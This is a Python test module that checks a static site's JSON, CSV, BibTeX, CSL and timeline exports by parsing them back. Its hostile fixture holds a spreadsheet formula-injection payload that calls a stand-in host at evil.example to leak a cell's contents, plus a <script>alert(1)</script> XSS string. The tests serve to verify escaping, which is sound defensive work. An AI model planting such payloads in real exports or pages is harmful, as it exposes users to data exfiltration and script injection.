"""The data exports and citations, read back with the tools researchers use: json, csv,
two BibTeX parsers (bibtexparser and pybtex) and a CSL processor (citeproc-py).

Every value is checked against the model the loader makes of the same content."""

from __future__ import annotations

import calendar
import csv
import html
import io
import json
import re
from collections import Counter
from pathlib import Path
from urllib.parse import unquote, urlsplit

import bibtexparser
import pytest
from bibtexparser.middlewares import LatexDecodingMiddleware
from citeproc import Citation, CitationItem, CitationStylesBibliography, CitationStylesStyle, formatter
from citeproc.source.json import CiteProcJSON
from conftest import PROJECT
from html_tools import parse, parse_file
from pybtex.database import parse_string as pybtex_parse

from microsite.commands.build import build
from microsite.model.loader import load_site
from microsite.site import urls
from microsite.site.citations import latex
from microsite.site.exports import csv_cell

ISO_BY_PRECISION = {"year": r"\d{4}", "month": r"\d{4}-\d{2}", "day": r"\d{4}-\d{2}-\d{2}"}
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


# ---- reading the exports back ---------------------------------------------------------


def read_json(out: Path, path: str):
    return json.loads((out / path).read_text(encoding="utf-8"))


def read_csv(out: Path) -> tuple[list[str], list[dict]]:
    raw = (out / urls.DATA_CLAIMS_CSV).read_bytes()
    assert raw.startswith(b"\xef\xbb\xbf"), "the CSV starts with a UTF-8 byte order mark, for Excel"
    reader = csv.reader(io.StringIO(raw.decode("utf-8-sig"), newline=""), strict=True)
    header, *rows = list(reader)
    assert all(len(row) == len(header) for row in rows)
    return header, [dict(zip(header, row, strict=True)) for row in rows]


def read_bibtex(out: Path, path: str) -> dict[str, dict]:
    """key -> {type, raw fields (pybtex), decoded fields (bibtexparser)}: both parsers must agree on the keys."""
    text = (out / path).read_text(encoding="utf-8")
    independent = pybtex_parse(text, "bibtex")  # strict: a stray brace or a duplicate key raises
    library = bibtexparser.parse_string(text, append_middleware=[LatexDecodingMiddleware()])
    assert not library.failed_blocks, library.failed_blocks
    decoded = {entry.key: entry for entry in library.entries}
    assert sorted(decoded) == sorted(independent.entries.keys())
    found = {}
    for key, entry in independent.entries.items():
        found[key] = {
            "type": entry.type,
            "raw": dict(entry.fields),
            "decoded": {field.key: field.value for field in decoded[key].fields},
        }
    return found


def unguarded(cell: str) -> str:
    return cell[1:] if cell.startswith("'") and cell[1:].startswith(FORMULA_STARTS) else cell


def expected_csv_cell(value) -> str:
    text = "" if value is None else "; ".join(value) if isinstance(value, list) else str(value)
    return "'" + text if text.startswith(FORMULA_STARTS) else text


def iso(date) -> str | None:
    return date.iso() if date else None


# ---- the project's own site -----------------------------------------------------------


@pytest.fixture(scope="module")
def model():
    return load_site(PROJECT)


def test_articles_json_describes_every_article_as_the_model_does(built_site, model):
    records = read_json(built_site, urls.DATA_ARTICLES)
    assert [r["slug"] for r in records] == [a.slug for a in model.articles]
    for record, article in zip(records, model.articles, strict=True):
        assert record["title"] == article.title
        assert (built_site / record["page"]).is_file() and record["page"] == urls.article(article.slug)
        assert record["page_url"] == urls.absolute(record["page"], model.settings.base_url)
        assert record["original_url"] == article.url
        assert record["publisher"] == (article.publisher.name if article.publisher else None)
        assert record["published"] == iso(article.published)
        if article.published:
            assert record["precision"] == article.published.precision
            assert re.fullmatch(ISO_BY_PRECISION[record["precision"]], record["published"])
        else:
            assert record["precision"] is None
        assert record["date_note"] == article.date_note
        assert (record["draft"], record["story"]) == (article.draft, article.story)
        assert record["companies"] == [c.name for c in article.companies]
        assert record["sources"] == [
            {"name": u.source.name, "kind": u.source.kind, "note": u.note} for u in article.sources
        ]
        assert record["claims"] == [c.id for c in article.claims]
        assert record["comment_count"] == (len(article.comments.items) if article.comments else 0)
        assert (built_site / record["capture"]).read_bytes() == article.capture.path.read_bytes()
    assert any(r["published"] is None for r in records), "the real site has an undated article to test"


def test_every_claim_appears_once_in_the_json_and_the_csv(built_site, model):
    claims = read_json(built_site, urls.DATA_CLAIMS_JSON)
    header, rows = read_csv(built_site)
    assert header == list(claims[0])  # the CSV's columns are the JSON's keys, in order
    wanted = Counter((c.article.slug, c.id) for c in model.claims)
    assert Counter((r["article_slug"], r["claim_id"]) for r in claims) == wanted
    assert Counter((r["article_slug"], r["claim_id"]) for r in rows) == wanted
    assert max(wanted.values()) == 1
    for claim, record, row in zip(model.claims, claims, rows, strict=True):
        assert record["quote"] == claim.quote and unguarded(row["quote"]) == claim.quote
        assert record["statement"] == claim.statement
        assert record["companies"] == [c.name for c in claim.companies]
        assert row["companies"] == "; ".join(c.name for c in claim.companies)
        assert (record["source"], record["source_kind"], record["status"]) == (
            claim.source.name,
            claim.source.kind,
            claim.status,
        )
        assert record["article_published"] == iso(claim.article.published)
        assert record["event_date"] == iso(claim.event_date)
        assert record["event_precision"] == (claim.event_date.precision if claim.event_date else None)
        for key, value in record.items():
            assert row[key] == expected_csv_cell(value), key
        for path in (record["claim_path"], record["quote_path"]):
            page, anchor = path.split("#")
            ids = {e.attrs["id"] for e in parse_file(built_site / page).iter() if "id" in e.attrs}
            assert anchor in ids, path
    precisions = {r["event_precision"] for r in claims}
    assert {"year", "month", "day"} <= precisions, "the real site has events at every precision"
    assert (built_site / urls.DATA_CLAIMS_CSV).read_bytes().count(b"\r\n") >= len(rows) + 1  # RFC 4180 rows


def test_the_timeline_json_is_timelinejs_with_honest_dates(built_site, model):
    timeline = read_json(built_site, urls.DATA_TIMELINE)
    assert html.unescape(timeline["title"]["text"]["headline"]) == model.settings.title
    events = timeline["events"]
    expected = {f"published-{a.slug}": (a.published, a.title) for a in model.articles if a.published}
    expected |= {f"event-{c.article.slug}-{c.id}": (c.event_date, c.statement) for c in model.claims if c.event_date}
    assert sorted(e["unique_id"] for e in events) == sorted(expected)
    for event in events:
        date, headline = expected[event["unique_id"]]
        parts = {"year": date.year, "month": date.month, "day": date.day}
        assert event["start_date"] == {k: v for k, v in parts.items() if v}, "no invented month or day"
        assert html.unescape(event["text"]["headline"]) == headline
        assert event["group"] == ("Publications" if event["unique_id"].startswith("published-") else "Events")
        for link in parse(event["text"]["text"]).find_all("a"):
            assert (built_site / urlsplit(link.attrs["href"]).path).is_file()


def test_csl_json_items_have_the_essentials_and_format_with_citeproc(built_site, model):
    items = read_json(built_site, urls.DATA_CITATIONS_CSL)
    assert [i["id"] for i in items] == [a.slug for a in model.articles]
    for item, article in zip(items, model.articles, strict=True):
        news = article.publisher is not None and article.publisher.kind in ("outlet", "wire")
        assert item["type"] == ("article-newspaper" if news else "webpage")
        assert item["title"] == article.title
        if article.publisher:
            assert item["container-title"] == article.publisher.name
        if article.published:
            (parts,) = item["issued"]["date-parts"]
            assert parts == [p for p in (article.published.year, article.published.month, article.published.day) if p]
        else:
            assert "issued" not in item
        assert urls.capture(article.slug) in item["note"]
        assert read_json(built_site, urls.citation_csl(article.slug)) == [item]

    style = CitationStylesStyle("harvard-cite-them-right", validate=False)
    bibliography = CitationStylesBibliography(style, CiteProcJSON(items), formatter.plain)
    for item in items:
        bibliography.register(Citation([CitationItem(item["id"])]))
    rendered = [str(entry) for entry in bibliography.bibliography()]
    for item in items:
        entry = next(text for text in rendered if item["title"] in text)
        assert str(item["issued"]["date-parts"][0][0]) in entry if "issued" in item else "no date" in entry


def test_bibtex_parses_back_to_each_article(built_site, model):
    entries = read_bibtex(built_site, urls.DATA_CITATIONS_BIBTEX)
    assert list(entries) == [a.slug for a in model.articles]
    for article in model.articles:
        entry = entries[article.slug]
        news = article.publisher is not None and article.publisher.kind in ("outlet", "wire")
        assert entry["type"] == ("article" if news else "misc")
        assert entry["decoded"]["title"] == article.title
        if article.publisher:
            assert entry["decoded"]["journal" if news else "howpublished"] == article.publisher.name
        if article.published:
            assert entry["raw"]["year"] == str(article.published.year)
            month = article.published.month
            assert entry["raw"].get("month") == (calendar.month_name[month] if month else None)
            assert entry["raw"]["date"] == article.published.iso()
        else:
            assert "year" not in entry["raw"] and "month" not in entry["raw"]
        assert urls.capture(article.slug) in entry["decoded"]["note"]
        single = read_bibtex(built_site, urls.citation_bibtex(article.slug))
        assert list(single) == [article.slug] and single[article.slug] == entry


def test_the_cite_block_links_to_files_that_exist(built_site, model):
    for article in model.articles:
        page = built_site / urls.article(article.slug)
        (block,) = parse_file(page).by_class("cite")
        links = [a.attrs["href"] for a in block.find_all("a")]
        for link in links:
            parts = urlsplit(link)
            if parts.scheme:
                assert link == article.url
                continue
            assert (page.parent / unquote(parts.path)).resolve().is_file(), link
        resolved = {(page.parent / urlsplit(link).path).resolve() for link in links if not urlsplit(link).scheme}
        for path in (urls.citation_bibtex(article.slug), urls.citation_csl(article.slug), urls.capture(article.slug)):
            assert (built_site / path).resolve() in resolved
        (shown,) = block.find_all("pre")
        assert shown.text() == (built_site / urls.citation_bibtex(article.slug)).read_text(encoding="utf-8")
        assert article.title in block.by_class("citation")[0].text()


def test_the_about_page_documents_every_column_and_field(built_site, model):
    about = parse_file(built_site / urls.DATA)
    tables = {t.find_all("caption")[0].text(): t for t in about.find_all("table")}

    def documented(word: str) -> list[str]:
        (table,) = [t for caption, t in tables.items() if word in caption]
        return [th.text() for th in table.find_all("th", scope="row")]

    header, _ = read_csv(built_site)
    assert documented("claims.csv") == header
    assert documented("articles.json") == list(read_json(built_site, urls.DATA_ARTICLES)[0])
    csl_keys = {key for item in read_json(built_site, urls.DATA_CITATIONS_CSL) for key in item}
    assert csl_keys <= set(documented("CSL-JSON"))
    # Every data file is linked, and the formula guard is explained with its characters.
    linked = {a.attrs["href"] for a in about.find_all("a")}
    for path in (urls.DATA_ARTICLES, urls.DATA_CLAIMS_JSON, urls.DATA_CLAIMS_CSV, urls.DATA_TIMELINE):
        assert urls.relative(path, urls.DATA) in linked
    (guard,) = [s for s in about.find_all("section") if "formula" in s.text() and s.find_all("h3", id="formula-guard")]
    assert all(f"{c}" in guard.text() for c in "=+-@'")


def test_the_footer_and_the_home_page_lead_to_the_about_page(built_site):
    for page in ("index.html", "timeline.html", "articles/huawei-third-party-phones-monica.html"):
        footer = parse_file(built_site / page).find_all("footer")[0]
        hrefs = [a.attrs["href"] for a in footer.find_all("a")]
        assert urls.relative(urls.DATA, page) in hrefs
    tiles = parse_file(built_site / "index.html").by_class("tiles")[0]
    assert urls.DATA in [a.attrs["href"] for a in tiles.find_all("a")]


# ---- a small site whose text is hostile --------------------------------------------------

SITE_YAML = """\
title: Hostile & "Test" Site
description: A site made by a test.
base_url: https://example.org/research/
companies:
  - {name: Huawei, kind: maker}
  - {name: AT&T, aliases: [ATT], kind: carrier}
  - {name: "=Evil, Inc.", kind: other}
sources:
  - {name: PhoneArena, kind: outlet}
  - {name: Counterpoint, kind: research-firm}
"""

CAPTURE = """\
Headline

=HYPERLINK("http://evil.example/?q="&A1, "click") said a reader, "quoted", with commas.
+1 for Huawei, said another; -5 for AT&T.
@everyone: 50% off $99 #deal a_b {x} ~ ^ \\ back
and a second line.
"""

TITLE = 'Huawei & Xiaomi: 50% off $99, #1 a_b {x} } then { "quoted" “Ünïcode” — 华为 <script>alert(1)</script>'

HOSTILE_PAGE = """\
---
title: '{title}'
publisher: PhoneArena
published: 2017-12-08
date_note: "-1 day; the test says so"
url: https://example.com/a_b?q=1&r=%20
seed: capture.txt
companies: [Huawei, AT&T, "=Evil, Inc."]
sources:
  - name: PhoneArena
claims:
  - id: formula
    statement: '=HYPERLINK("http://evil.example/?q="&A1, "click")'
    quote: '=HYPERLINK("http://evil.example/?q="&A1, "click") said a reader, "quoted", with commas.'
    source: PhoneArena
    companies: ["=Evil, Inc.", AT&T]
    status: reported
    event_date: 2018
  - id: plus
    statement: +1 for Huawei
    quote: +1 for Huawei, said another;
    source: PhoneArena
    companies: [Huawei]
    status: opinion
    event_date: 2017-12
  - id: minus
    statement: -5 for AT&T
    quote: -5 for AT&T.
    source: PhoneArena
    status: opinion
  - id: at
    statement: "@everyone gets a deal"
    quote: |-
      @everyone: 50% off $99 #deal a_b {x} ~ ^ \\ back
      and a second line.
    source: PhoneArena
    status: rumour
    event_date: 2017-12-08
---
Body.
""".replace("{title}", TITLE.replace("'", "''"))

UNDATED_PAGE = """\
---
title: An undated note by a research firm
publisher: Counterpoint
date_note: Nothing dates it.
seed: undated.txt
---
"""


@pytest.fixture
def hostile(site, tmp_path):
    site.write("site.yaml", SITE_YAML)
    site.write("seeds/capture.txt", CAPTURE)
    site.page(HOSTILE_PAGE)
    site.write("seeds/undated.txt", "An undated note.\n")
    site.page(UNDATED_PAGE, "undated.md")
    out = tmp_path / "out"
    build(site.root, out)
    return load_site(site.root), out


def test_hostile_text_round_trips_through_json_and_csv(hostile):
    model, out = hostile
    (article,) = [a for a in model.articles if a.slug == "talks"]
    assert article.title == TITLE  # the page says what the test means
    assert read_json(out, urls.DATA_ARTICLES)[0]["title"] == TITLE
    claims = read_json(out, urls.DATA_CLAIMS_JSON)
    header, rows = read_csv(out)
    assert [r["claim_id"] for r in rows] == [c.id for c in model.claims] == [r["claim_id"] for r in claims]
    for claim, record, row in zip(model.claims, claims, rows, strict=True):
        assert record["quote"] == claim.quote and record["statement"] == claim.statement  # the JSON is exact
        assert unguarded(row["quote"]) == claim.quote  # commas, quotes and line breaks survive the CSV
        for key in header:
            assert row[key] == expected_csv_cell(record[key]), key
    by_id = {row["claim_id"]: row for row in rows}
    assert by_id["formula"]["statement"] == "'" + model.claims[0].statement
    assert by_id["formula"]["companies"] == "'=Evil, Inc.; AT&T"
    assert by_id["plus"]["statement"].startswith("'+") and by_id["minus"]["statement"].startswith("'-")
    assert by_id["at"]["quote"].startswith("'@") and "\n" in by_id["at"]["quote"]
    assert by_id["at"]["claim_url"] == "https://example.org/research/articles/talks.html#claim-at"
    # Apostrophes only where a spreadsheet would see a formula: nothing else is touched.
    assert by_id["formula"]["article_title"] == TITLE
    assert [csv_cell(v) for v in ("\tx", "\rx", "x=1", "'=x", None, ["-a", "b"])] == [
        "'\tx",
        "'\rx",
        "x=1",
        "'=x",
        "",
        "'-a; b",
    ]


def test_hostile_text_is_escaped_in_the_timeline_json(hostile):
    model, out = hostile
    timeline = read_json(out, urls.DATA_TIMELINE)
    events = {e["unique_id"]: e for e in timeline["events"]}
    assert set(events) == {"published-talks", "event-talks-formula", "event-talks-plus", "event-talks-at"}
    published = events["published-talks"]
    assert published["start_date"] == {"year": 2017, "month": 12, "day": 8}
    assert events["event-talks-formula"]["start_date"] == {"year": 2018}
    assert "<script>" not in published["text"]["headline"]
    assert html.unescape(published["text"]["headline"]) == TITLE
    for event in events.values():
        body = parse(event["text"]["text"])
        assert not body.find_all("script")
        assert next(a.attrs["href"] for a in body.find_all("a")).startswith("https://example.org/research/")
    assert html.unescape(timeline["title"]["text"]["headline"]) == model.settings.title


def test_hostile_titles_survive_bibtex_and_csl(hostile):
    _, out = hostile
    entries = read_bibtex(out, urls.DATA_CITATIONS_BIBTEX)
    talks, undated = entries["talks"], entries["undated"]
    assert talks["type"] == "article" and undated["type"] == "misc"
    assert talks["decoded"]["title"] == TITLE  # & % $ # _ { } and quotes, escaped and read back
    raw = talks["raw"]["title"]
    for special in ("&", "%", "$", "#", "_"):
        assert raw.count("\\" + special) == TITLE.count(special), special
    assert talks["raw"]["url"] == "https://example.com/a_b?q=1&r=%20"  # verbatim, as styles read it
    # The month is BibTeX's macro (dec), which pybtex expands as BibTeX does.
    assert talks["raw"]["month"] == "December" and talks["raw"]["date"] == "2017-12-08"
    assert talks["decoded"]["note"] == "Archived capture: https://example.org/research/captures/talks.html"
    assert undated["decoded"]["howpublished"] == "Counterpoint" and "year" not in undated["raw"]

    # ~ ^ \ become commands that print them, never LaTeX syntax of their own.
    assert latex("~ ^ \\") == "{\\textasciitilde} {\\textasciicircum} {\\textbackslash}"

    items = {item["id"]: item for item in read_json(out, urls.DATA_CITATIONS_CSL)}
    assert items["talks"]["title"] == TITLE and items["talks"]["type"] == "article-newspaper"
    assert items["talks"]["issued"] == {"date-parts": [[2017, 12, 8]]}
    assert items["undated"]["type"] == "webpage" and "issued" not in items["undated"]


def test_the_hostile_cite_block_shows_the_bibtex_as_text(hostile):
    _, out = hostile
    page = parse_file(out / "articles/talks.html")
    (block,) = page.by_class("cite")
    assert not block.find_all("script")
    assert block.find_all("pre")[0].text() == (out / urls.citation_bibtex("talks")).read_text(encoding="utf-8")
    assert TITLE in block.by_class("citation")[0].text()
    capture_link = [a for a in block.find_all("a") if a.attrs["href"] == "../captures/talks.html"]
    assert capture_link[0].text() == "https://example.org/research/captures/talks.html"


def test_the_site_wide_files_are_made_in_pieces_and_written_as_such(built_site, model):
    # Joined, claims.json alone would be held three times over (70 MB a copy at ten thousand articles).
    from microsite.build.cache import Shares
    from microsite.site import citations, exports

    makers = {
        urls.DATA_ARTICLES: exports.articles_json,
        urls.DATA_CLAIMS_JSON: exports.claims_json,
        urls.DATA_CLAIMS_CSV: exports.claims_csv,
        urls.DATA_TIMELINE: exports.timeline_json,
        urls.DATA_CITATIONS_CSL: citations.site_csl_json,
        urls.DATA_CITATIONS_BIBTEX: citations.site_bibtex,
    }
    for path, make in makers.items():
        made = make(model, Shares())
        assert not isinstance(made, str), f"{path} is made whole"
        pieces = list(made)
        assert len(pieces) > len(model.articles), f"{path} is made in few pieces"
        assert "".join(pieces).encode() == (built_site / path).read_bytes(), path
